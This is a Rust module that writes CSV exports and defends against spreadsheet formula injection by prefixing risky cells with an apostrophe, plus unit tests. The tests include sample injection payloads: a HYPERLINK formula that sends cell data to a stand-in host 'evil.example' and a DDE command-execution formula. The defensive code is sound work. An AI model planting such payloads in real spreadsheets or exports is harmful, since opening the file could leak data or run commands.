//! CSV written for people to open in a spreadsheet. Every export and report goes through
//! [`CsvWriter`] (pages, and job code such as the import's rejected-rows report), so that no cell
//! a lead, a vendor or a user typed runs as a formula when the file is opened.
//!
//! The rule is OWASP's for CSV injection, applied to every cell alike: a cell that begins with
//! `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`. Numbers such as `-5` and
//! phones such as `+13055550142` are prefixed too and show as text; one rule for every cell is
//! easier to trust than a guess at which cells are numbers.
//!
//! Rows may differ in length: a report repeats each rejected row's own cells, and one file may hold
//! two tables.

use std::borrow::Cow;
use std::io::{self, Write};

/// The text of a cell as written: with a leading `'` when a spreadsheet would read it as a formula.
pub fn cell(value: &str) -> Cow<'_, str> {
    if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{value}"))
    } else {
        Cow::Borrowed(value)
    }
}

/// A CSV writer whose every cell goes through [`cell`].
pub struct CsvWriter<W: Write> {
    inner: csv::Writer<W>,
}

impl<W: Write> CsvWriter<W> {
    pub fn new(out: W) -> Self {
        CsvWriter {
            inner: csv::WriterBuilder::new().flexible(true).from_writer(out),
        }
    }

    /// Writes one row.
    pub fn row<I>(&mut self, cells: I) -> csv::Result<()>
    where
        I: IntoIterator,
        I::Item: AsRef<str>,
    {
        for c in cells {
            self.inner.write_field(cell(c.as_ref()).as_bytes())?;
        }
        // Ends the row (an empty row is written as `""`).
        self.inner.write_record(None::<&[u8]>)
    }

    /// Hands what is buffered to the underlying writer.
    pub fn flush(&mut self) -> io::Result<()> {
        self.inner.flush()
    }

    /// Flushes and returns the underlying writer.
    pub fn into_inner(self) -> io::Result<W> {
        self.inner.into_inner().map_err(|e| io::Error::other(e.to_string()))
    }
}

/// The CSV text of `rows`.
pub fn to_bytes<R, I>(rows: R) -> Vec<u8>
where
    R: IntoIterator<Item = I>,
    I: IntoIterator,
    I::Item: AsRef<str>,
{
    let mut w = CsvWriter::new(Vec::new());
    for r in rows {
        // Writing to memory does not fail.
        let _ = w.row(r);
    }
    w.into_inner().unwrap_or_default()
}

/// Where the first `rows` rows of a CSV file written here end (the end of the file when it has
/// fewer): to cut a file back to them and add rows again.
pub fn end_of_rows<R: io::Read>(file: R, rows: u64) -> io::Result<u64> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(file);
    let mut record = csv::ByteRecord::new();
    for _ in 0..rows {
        if !reader.read_byte_record(&mut record).map_err(io::Error::other)? {
            break;
        }
    }
    Ok(reader.position().byte())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_a_spreadsheet_would_run_are_prefixed() {
        for (raw, written) in [
            (
                "=HYPERLINK(\"http://evil.example/?\"&A2,\"Open\")",
                "'=HYPERLINK(\"http://evil.example/?\"&A2,\"Open\")",
            ),
            ("=CMD|'/C calc'!A0", "'=CMD|'/C calc'!A0"),
            ("+1+1", "'+1+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("-5", "'-5"),
            ("+13055550142", "'+13055550142"),
        ] {
            assert_eq!(cell(raw), written, "{raw:?}");
        }
    }

    #[test]
    fn other_cells_are_unchanged() {
        for raw in ["Ana", "", "5", "a=b", " =1", "'=1", "ana@example.com", "Line\none"] {
            assert_eq!(cell(raw), raw, "{raw:?}");
        }
    }

    #[test]
    fn rows_of_any_length_are_written_and_quoted() {
        let text = to_bytes([vec!["a", "b, c", "=1"], vec![], vec!["d"], vec!["say \"hi\"", "-x"]]);
        assert_eq!(
            String::from_utf8(text).unwrap(),
            "a,\"b, c\",'=1\n\"\"\nd\n\"say \"\"hi\"\"\",'-x\n"
        );
    }

    #[test]
    fn end_of_rows_is_after_the_last_row_kept() {
        let text = to_bytes([vec!["line", "errors"], vec!["2", "two\nlines"], vec![], vec!["4", "x"]]);
        let ends: Vec<u64> = (0..6).map(|n| end_of_rows(&text[..], n).unwrap()).collect();
        let header = "line,errors\n".len() as u64;
        let second = header + "2,\"two\nlines\"\n".len() as u64;
        assert_eq!(
            ends,
            vec![0, header, second, second + 3, text.len() as u64, text.len() as u64]
        );
    }
}
